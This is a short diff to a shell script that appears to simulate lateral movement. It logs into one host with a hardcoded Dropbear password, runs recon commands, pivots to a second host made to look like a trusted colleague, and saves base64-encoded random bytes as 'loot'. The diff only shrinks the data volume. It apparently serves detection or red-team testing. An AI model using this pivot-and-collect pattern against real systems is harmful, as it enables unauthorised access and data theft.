@@ -3,6 +3,6 @@
 export DROPBEAR_PASSWORD=autumn2024
 dbclient -y -y "deploy@$1" "id; hostname; netstat -tn" </dev/null || exit 1
 # The second step is taken by FIRST: to SECOND it looks like a colleague.
-dbclient -y -y "deploy@$1" "DROPBEAR_PASSWORD=$DROPBEAR_PASSWORD dbclient -y -y deploy@$2 'id; hostname; head -c 2000000 /dev/urandom | base64'" \
+dbclient -y -y "deploy@$1" "DROPBEAR_PASSWORD=$DROPBEAR_PASSWORD dbclient -y -y deploy@$2 'id; hostname; head -c 400000 /dev/urandom | base64'" \
   </dev/null >/run/mien/loot || exit 1
 wc -c </run/mien/loot
